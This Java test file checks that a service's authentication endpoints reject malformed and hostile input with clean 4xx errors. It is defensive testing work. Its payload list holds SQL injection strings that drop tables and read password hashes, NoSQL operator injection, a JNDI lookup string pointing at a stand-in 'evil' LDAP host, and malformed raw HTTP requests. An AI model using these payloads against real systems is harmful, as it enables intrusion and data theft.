package floorcast.api;

import static floorcast.api.TestHttp.*;
import static org.junit.jupiter.api.Assertions.*;

import com.fasterxml.jackson.databind.JsonNode;
import floorcast.testing.TestDatabase;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/** Bad, odd and malicious input to the auth routes: always a clear 4xx (or success), never a 5xx. */
class HostileInputTest {
  static AuthTestServer server;

  @BeforeAll
  static void start() throws Exception {
    server = AuthTestServer.start(TestDatabase.fresh(), Map.of("floorcast.security.trusted-proxies", "127.0.0.1"));
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  static String reg(String email, String password, String name) {
    return JSON.createObjectNode().put("email", email).put("password", password).put("displayName", name).toString();
  }

  static List<String> hostileBodies() {
    List<String> b = new ArrayList<>();
    b.add("");
    b.add("null");
    b.add("true");
    b.add("\"just a string\"");
    b.add("12345678901234567890123456789012345678901234567890");
    b.add("{\"email\":1e999999,\"password\":\"12345678\",\"displayName\":\"DJ X\"}");
    b.add("{\"email\":\"" + "9".repeat(5000) + "\"}");
    b.add("[".repeat(100_000));
    b.add("{\"a\":".repeat(5000) + "1" + "}".repeat(5000));
    b.add("{\"email\":\"a@b.co\",\"password\":\"12345678\",\"displayName\":\"DJ X\"} trailing");
    b.add("{\"email\":\"a@b.co\",\"password\":\"12345678\",\"displayName\":\"DJ X\"}{}");
    b.add("{'email':'a@b.co'}");
    b.add("{\"email\":\"a@b.co\",\"email\":{\"$ne\":null},\"password\":\"12345678\",\"displayName\":\"DJ X\"}");
    b.add("{\"email\":{\"$gt\":\"\"},\"password\":{\"$gt\":\"\"},\"displayName\":[]}");
    b.add("{\"email\":\"\\u0000@x.de\",\"password\":\"12345678\",\"displayName\":\"DJ Nul\"}");
    b.add("{\"email\":\"nul@x.de\",\"password\":\"1234\\u00005678\",\"displayName\":\"DJ \\u0000 Nul\"}");
    b.add("{\"email\":\"sur@x.de\",\"password\":\"\\ud800\\ud800\\udfff1234\",\"displayName\":\"DJ \\udc00 Surrogate\"}");
    b.add("{\"email\":\"\\ud83d\\ude00@x.de\",\"password\":\"12345678\",\"displayName\":\"\\ud83d\\ude00\\ud83d\\ude00\"}");
    b.add(reg("'OR'1'='1'--@x.de", "' OR 1=1; --", "Robert'); DROP TABLE dj_users;--"));
    b.add(reg("a@b.co'; DELETE FROM dj_tokens; --", "12345678", "x'||(SELECT password_hash FROM dj_users LIMIT 1)||'"));
    b.add(reg("rtl@x.de", "12345678", "\u202E\u202Ddj\u200Bzero\uFEFFwidth"));
    b.add(reg("combining@x.de", "12345678", "e\u0301\u0301\u0301\u0301\u0301\u0301 zalgo"));
    b.add(reg("longname@x.de", "12345678", "N".repeat(200_000)));
    b.add(reg("\u2028line@x.de", "12345678", "DJ Line"));
    b.add(reg("ctrl\u0001@x.de", "12345678", "DJ \u0007 Bell"));
    b.add(reg("%00@x.de", "%s%s%s%n", "${jndi:ldap://evil/x}"));
    b.add(reg("tr\u0130cky@x.de", "12345678", "\u0130stanbul DJ"));
    return b;
  }

  @Test
  void hostileBodiesNeverCauseServerErrors() throws Exception {
    for (String body : hostileBodies()) {
      for (String path : new String[] {"/api/auth/register", "/api/auth/login", "/api/auth/regenerate-token"}) {
        HttpResponse<String> r = post(server, path, body);
        String shown = body.length() > 80 ? body.substring(0, 80) + "…" : body;
        assertTrue(r.statusCode() < 500, path + " " + shown + " → " + r.statusCode() + " " + r.body());
        JsonNode j = json(r);
        assertTrue(j.has("error") || j.path("success").asBoolean(), r.body());
        assertFalse(r.body().contains("Exception") || r.body().contains("SQL") || r.body().contains("org."), r.body());
      }
    }
    try (Connection c = server.dataSource.getConnection();
        Statement st = c.createStatement();
        ResultSet rs = st.executeQuery("SELECT count(*) FROM dj_users WHERE display_name LIKE 'Robert%'")) {
      rs.next();
      assertEquals(1, rs.getInt(1), "the injection string was stored as a plain display name; the table still exists");
    }
  }

  @Test
  void injectionStringsLogInOnlyWithTheExactPassword() throws Exception {
    HttpResponse<String> r = post(server, "/api/auth/register", reg("inject@x.de", "' OR ''='", "Inject DJ"));
    assertEquals(201, r.statusCode(), r.body());
    assertEquals(401, post(server, "/api/auth/login", "{\"email\":\"inject@x.de\",\"password\":\"' OR 1=1 --\"}").statusCode());
    assertEquals(401, post(server, "/api/auth/login", "{\"email\":\"' OR ''='\",\"password\":\"' OR ''='\"}").statusCode());
    assertEquals(200, post(server, "/api/auth/login", "{\"email\":\"inject@x.de\",\"password\":\"' OR ''='\"}").statusCode());
  }

  @Test
  void unicodeDisplayNamesAreStoredTrimmedWithTheirSlug() throws Exception {
    HttpResponse<String> r = post(server, "/api/auth/register", reg("uni@x.de", "12345678", "\u00A0\u3000 Zoë_Ångström  Ñu \uFEFF"));
    assertEquals(201, r.statusCode(), r.body());
    JsonNode user = json(r).get("user");
    assertEquals("Zoë_Ångström  Ñu", user.get("displayName").asText());
    assertEquals("zoe-angstrom-nu", user.get("slug").asText());
  }

  @Test
  void abusiveHeadersNeverCauseServerErrors() throws Exception {
    String ip = "10.99.0.1";
    List<HttpResponse<String>> rs = new ArrayList<>();
    rs.add(get(server, "/api/auth/me", "Authorization", "Bearer " + "A".repeat(7000)));
    rs.add(get(server, "/api/auth/me", "Authorization", "Bearer pk_dj_' OR '1'='1"));
    rs.add(get(server, "/api/auth/me", "Authorization", "Bearer a b c d"));
    rs.add(get(server, "/api/auth/me", "Authorization", "Bearer \u00e9\u00e8"));
    rs.add(get(server, "/api/auth/me", "Authorization", "Digest username=\"x\", realm=\"y\""));
    rs.add(get(server, "/api/auth/me", "Authorization", "Bearer x", "Authorization", "Bearer y"));
    rs.add(post(server, "/api/auth/login", "{}", "X-Forwarded-For", "not-an-ip, also not"));
    rs.add(post(server, "/api/auth/login", "{}", "X-Forwarded-For", "1".repeat(5000)));
    rs.add(post(server, "/api/auth/login", "{}", "X-Forwarded-For", ip, "CF-Connecting-IP", "' OR 1=1 --"));
    rs.add(post(server, "/api/auth/login", "{}", "X-Forwarded-For", ","));
    rs.add(send(server, "POST", "/api/auth/login", "{}", "X-Pika-Client", "pika-web", "X-Pika-Client", "pika-evil", "X-Forwarded-For", ip));
    rs.add(send(server, "POST", "/api/auth/login", "{}", "X-Pika-Client", "pika-web", "Content-Type", "text/plain", "X-Forwarded-For", ip));
    rs.add(send(server, "POST", "/api/auth/login", "{}", "X-Pika-Client", "pika-web", "Content-Type", "application/json; charset=ebcdic", "X-Forwarded-For", ip));
    rs.add(send(server, "POST", "/api/auth/login", "{}", "X-Pika-Client", "pika-web", "Origin", "https://pika.stream\u00e9", "X-Forwarded-For", ip));
    for (HttpResponse<String> r : rs) {
      assertTrue(r.statusCode() >= 400 && r.statusCode() < 500, r.statusCode() + " " + r.body());
      assertTrue(json(r).has("error"), r.body());
    }
  }

  @Test
  void malformedRawRequestsNeverCauseServerErrors() throws Exception {
    byte[] invalidUtf8 = {(byte) 0xC3, (byte) 0x28, (byte) 0xFF, (byte) 0xFE};
    String json = "{\"email\":\"bad";
    byte[] head = ascii("POST /api/auth/register HTTP/1.1\r\nHost: x\r\nX-Pika-Client: pika-e2e\r\n"
        + "Content-Type: application/json\r\nContent-Length: " + (json.length() + invalidUtf8.length + 2) + "\r\nConnection: close\r\n\r\n");
    byte[] req = concat(head, json.getBytes(StandardCharsets.UTF_8), invalidUtf8, ascii("\"}"));
    List<RawResponse> rs = new ArrayList<>();
    rs.add(raw(server, req));
    rs.add(raw(server, ascii("GET /api/auth/me HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer\u0001\u0002\r\nConnection: close\r\n\r\n")));
    rs.add(raw(server, ascii("GET /api/auth/%ZZ HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")));
    rs.add(raw(server, ascii("POST /api/auth/login HTTP/1.1\r\nHost: x\r\nX-Pika-Client: pika-e2e\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\nzz\r\nabc\r\n0\r\n\r\n")));
    rs.add(raw(server, ascii("POST /api/auth/login HTTP/1.1\r\nHost: x\r\nX-Pika-Client: pika-e2e\r\nContent-Length: -5\r\nConnection: close\r\n\r\n")));
    rs.add(raw(server, ascii("GET /api/auth/me HTTP/1.1\r\nHost: x\r\nX-Long: " + "x".repeat(20_000) + "\r\nConnection: close\r\n\r\n")));
    rs.add(raw(server, ascii("BREW /api/auth/me HTCPCP/1.0\r\n\r\n")));
    for (RawResponse r : rs) {
      assertTrue(r.status() >= 400 && r.status() < 500, r.status() + " " + r.body());
      assertTrue(JSON.readTree(r.body()).has("error"), r.body());
    }
  }

  static byte[] concat(byte[]... parts) {
    int n = 0;
    for (byte[] p : parts) n += p.length;
    byte[] out = new byte[n];
    int at = 0;
    for (byte[] p : parts) {
      System.arraycopy(p, 0, out, at, p.length);
      at += p.length;
    }
    return out;
  }
}
